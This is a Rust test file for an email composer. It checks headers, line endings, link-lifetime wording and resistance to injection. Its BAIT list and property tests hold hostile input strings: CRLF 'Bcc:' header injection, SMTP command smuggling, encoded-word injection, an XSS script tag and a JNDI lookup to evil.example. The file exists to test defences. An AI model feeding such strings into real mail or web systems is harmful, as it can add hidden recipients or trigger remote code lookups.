//! What is written is read back with somebody else's parser: one recipient, our headers, the same link twice.

use std::collections::BTreeSet;

use keyward_domain::accounts::{DisplayName, EmailAddress};
use keyward_domain::ids::MailId;
use keyward_domain::mail::MailContent;
use keyward_domain::secret::Secret;
use keyward_domain::time::Instant;
use keyward_testkit::clock::FakeClock;
use mail_parser::MessageParser;

use super::*;

const LINK: &str =
    "https://id.example.com/reset-password?token=dG9rZW4tdG9rZW4tdG9rZW4tdG9rZW4tdG9rZW4tdG9rZW4";

const HOUR: Duration = Duration::from_secs(3_600);

fn composer() -> Composer {
    let sender = "Keyward <no-reply@example.com>".parse().unwrap();
    Composer::new(sender, "https://id.example.com", Arc::new(FakeClock::new()))
}

fn link() -> Secret<String> {
    Secret::new(LINK.to_owned())
}

fn mail(to: EmailAddress, name: &str, content: MailContent) -> OutgoingMail {
    let id = MailId::from_uuid(uuid::Uuid::from_u128(7));
    OutgoingMail { id, to, account_name: DisplayName::parse(name).unwrap(), content }
}

fn alpha() -> EmailAddress {
    EmailAddress::parse("alpha@example.com").unwrap()
}

/// Reads it back and checks what is true of every mail.
fn read_back(bytes: &[u8], to: &str) -> mail_parser::Message<'static> {
    let message = MessageParser::default().parse(bytes).unwrap().into_owned();
    let names: Vec<String> = message.headers_raw().map(|(name, _)| name.to_ascii_lowercase()).collect();
    let expected = BTreeSet::from([
        "from",
        "to",
        "date",
        "message-id",
        "subject",
        "auto-submitted",
        "mime-version",
        "content-type",
    ]);
    assert_eq!(names.iter().map(String::as_str).collect::<BTreeSet<_>>(), expected);
    assert_eq!(names.len(), expected.len(), "no header stands twice: {names:?}");
    let recipients: Vec<&str> = message.to().unwrap().iter().filter_map(|to| to.address()).collect();
    assert_eq!(recipients, [to]);
    assert_eq!((message.text_body_count(), message.html_body_count()), (1, 1));
    assert_eq!(message.attachment_count(), 0);
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    assert_eq!(text.matches('\n').count(), text.matches("\r\n").count(), "every line ends in CRLF");
    assert_eq!(text.matches('\r').count(), text.matches("\r\n").count());
    assert!(text.split("\r\n").all(|line| line.len() <= 998), "RFC 5322, section 2.1.1");
    message
}

#[test]
fn a_mail_has_our_headers_and_the_same_words_twice() {
    let content = MailContent::ResetPassword { link: link(), lifetime: HOUR, ends_keys: true };
    let composed = composer().compose(&mail(alpha(), "Alpha <b>&amp; Omega", content)).unwrap();
    let message = read_back(&composed.bytes, "alpha@example.com");
    assert_eq!(message.subject(), Some("Reset your password"));
    assert_eq!(message.message_id(), Some("00000000-0000-0000-0000-000000000007@id.example.com"));
    assert_eq!(message.date().unwrap().to_rfc3339(), "2026-03-19T13:00:00Z");
    assert_eq!(message.header_raw("Auto-Submitted").map(str::trim), Some("auto-generated"));
    assert_eq!(message.from().unwrap().first().unwrap().address(), Some("no-reply@example.com"));
    let (text, html) = (message.body_text(0).unwrap(), message.body_html(0).unwrap());
    assert!(text.contains("Hello Alpha <b>&amp; Omega,"), "{text}");
    assert!(html.contains("Hello Alpha &#60;b&#62;&#38;amp; Omega,"), "{html}");
    for part in [&text, &html] {
        assert!(part.contains(LINK) && part.contains("reset") && part.contains("never verified"), "{part}");
    }
    // Whole also before anything is decoded, for programs that only search.
    let raw = String::from_utf8(composed.bytes).unwrap();
    assert_eq!(raw.matches(LINK).count(), 3);
}

#[test]
fn only_a_reset_speaks_of_a_reset() {
    let verify = MailContent::VerifyAddress {
        link: Secret::new("https://id.example.com/verify-email?token=x".to_owned()),
        lifetime: HOUR,
    };
    for (content, speaks) in [
        (verify, false),
        (MailContent::AddressInUse, false),
        (MailContent::ResetPassword { link: link(), lifetime: HOUR, ends_keys: false }, true),
    ] {
        let composed = composer().compose(&mail(alpha(), "Alpha", content)).unwrap();
        let message = read_back(&composed.bytes, "alpha@example.com");
        let parts = [message.subject().unwrap().to_owned()]
            .into_iter()
            .chain([message.body_text(0).unwrap().into_owned(), message.body_html(0).unwrap().into_owned()]);
        for part in parts {
            assert_eq!(part.to_lowercase().contains("reset"), speaks, "{part}");
            assert!(!part.contains("never verified"), "{part}");
        }
    }
}

#[test]
fn a_mail_says_how_long_its_link_is_good() {
    for (seconds, words) in [
        (60, "1 minute"),
        (61, "1 minute"),
        (119, "1 minute"),
        (1_800, "30 minutes"),
        (3_600, "1 hour"),
        (5_400, "90 minutes"),
        (86_400, "24 hours"),
        (100_000, "1666 minutes"),
        (172_800, "2 days"),
        (604_800, "7 days"),
    ] {
        let lifetime = Duration::from_secs(seconds);
        for content in [
            MailContent::VerifyAddress { link: link(), lifetime },
            MailContent::ResetPassword { link: link(), lifetime, ends_keys: false },
        ] {
            let composed = composer().compose(&mail(alpha(), "Alpha", content)).unwrap();
            let message = read_back(&composed.bytes, "alpha@example.com");
            for part in [message.body_text(0).unwrap(), message.body_html(0).unwrap()] {
                assert!(
                    part.contains(&format!("The link is good for {words}, and once.")),
                    "{seconds}: {part}"
                );
            }
        }
    }
}

#[test]
fn an_address_literal_stands_in_brackets() {
    let sender: Sender = "no-reply@localhost".parse().unwrap();
    for (url, id) in [
        ("http://127.0.0.1:8080", "@[127.0.0.1]>"),
        ("http://[::1]:8080", "@[IPv6:::1]>"),
        ("https://b\u{fc}cher.example/x", "@xn--bcher-kva.example>"),
    ] {
        let composer = Composer::new(sender.clone(), url, Arc::new(FakeClock::new()));
        let composed = composer.compose(&mail(alpha(), "Alpha", MailContent::AddressInUse)).unwrap();
        let raw = String::from_utf8(composed.bytes).unwrap();
        assert!(raw.contains(id), "{raw}");
    }
}

#[test]
fn a_clock_that_is_far_off_does_not_stop_the_mail() {
    for seconds in [-62_135_596_800, -1, 253_402_300_799] {
        let clock = FakeClock::new();
        clock.set(Instant::from_unix_micros(seconds * 1_000_000).unwrap());
        let composer = Composer { clock: Arc::new(clock), ..composer() };
        assert!(composer.compose(&mail(alpha(), "Alpha", MailContent::AddressInUse)).is_ok());
    }
}

/// Ways out of a header, a command, a quoted word or an encoded one.
const BAIT: &[&str] = &[
    "\r\nBcc: victim@evil.example",
    "\nBcc: victim@evil.example",
    "\rBcc: victim@evil.example",
    "\r\n\r\nbody",
    "\r\n.\r\nMAIL FROM:<a@evil.example>",
    "%0d%0aBcc:victim@evil.example",
    "\u{0}",
    "\u{1b}[2J",
    "\u{85}Bcc: x",
    "\u{2028}Bcc: x",
    "\u{2029}Bcc: x",
    "\u{10a}\u{10d}",
    "\u{202e}",
    "\u{200b}",
    "=?utf-8?q?=0D=0ABcc:_victim=40evil.example?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "\"",
    "\\\"",
    "<victim@evil.example>",
    ", victim@evil.example",
    "; victim@evil.example",
    "> RCPT TO:<victim@evil.example>",
    " NOTIFY=NEVER",
    "(comment)",
    "@evil.example",
    "!evil",
    "%evil.example",
    "\u{ff20}evil.example",
    "\u{ff0c}victim",
    "\t",
    " ",
    "\u{a0}",
    "'--",
    "<script>alert(1)</script>",
    "{{ self.0.link }}",
    "${jndi:ldap://evil.example}",
];

#[test]
fn threat_a8_no_address_or_name_adds_a_recipient_or_a_header() {
    let long = "a".repeat(70);
    let mut tried = 0;
    for bait in BAIT.iter().copied().chain([long.as_str(), "ü", "日本", "e\u{301}", "👩\u{200d}🚀", "ﬁ"])
    {
        let texts = [
            format!("alpha{bait}@example.com"),
            format!("{bait}alpha@example.com"),
            format!("al{bait}pha@example.com"),
            format!("alpha@exam{bait}ple.com"),
            format!("alpha@example.com{bait}"),
            format!("alpha@{bait}.example.com"),
        ];
        for text in &texts {
            let (local, domain) = text.rsplit_once('@').unwrap();
            // As a client would have to pass it, and as somebody who writes to the database would not.
            let addresses = [
                EmailAddress::parse(text).ok(),
                Some(EmailAddress::from_stored(text.clone(), text.clone())),
                Some(EmailAddress::from_stored(text.clone(), format!("{local}@{domain}").to_lowercase())),
            ];
            for to in addresses.into_iter().flatten() {
                tried += 1;
                let Ok(composed) = composer().compose(&mail(to, "Alpha", MailContent::AddressInUse)) else {
                    continue;
                };
                let to = composed.to.to_string();
                assert!(
                    !to.chars().any(|c| c.is_control() || c.is_whitespace() || "<>\",;:()\\".contains(c)),
                    "{to:?}"
                );
                assert_eq!(to.matches('@').count(), 1, "{to:?}");
                read_back(&composed.bytes, &to);
            }
        }
        let names = [format!("A{bait}"), format!("{bait}Z"), format!("A{bait}Z")];
        for name in names.iter().filter(|name| DisplayName::parse(name).is_ok()) {
            tried += 1;
            let content = MailContent::VerifyAddress { link: link(), lifetime: HOUR };
            let composed = composer().compose(&mail(alpha(), name, content)).unwrap();
            let message = read_back(&composed.bytes, "alpha@example.com");
            let (head, _) = std::str::from_utf8(&composed.bytes).unwrap().split_once("\r\n\r\n").unwrap();
            assert!(!head.contains(name.as_str()), "a name stands in no header");
            assert!(!message.body_html(0).unwrap().contains("<script>"), "{name}");
        }
    }
    assert!(tried >= 500, "only {tried}");
}

proptest::proptest! {
    #[test]
    fn threat_a8_no_text_at_all_does(typed in "\\PC{0,40}", canonical in ".{0,40}@.{0,20}", name in "\\PC{1,64}") {
        let stored = EmailAddress::from_stored(typed.clone(), canonical);
        let parsed = EmailAddress::parse(&typed).ok();
        for to in [Some(stored), parsed].into_iter().flatten() {
            let Ok(name) = DisplayName::parse(&name) else { continue };
            let id = MailId::from_uuid(uuid::Uuid::from_u128(7));
            let mail = OutgoingMail { id, to, account_name: name, content: MailContent::AddressInUse };
            if let Ok(composed) = composer().compose(&mail) {
                read_back(&composed.bytes, composed.to.as_ref());
            }
        }
    }
}
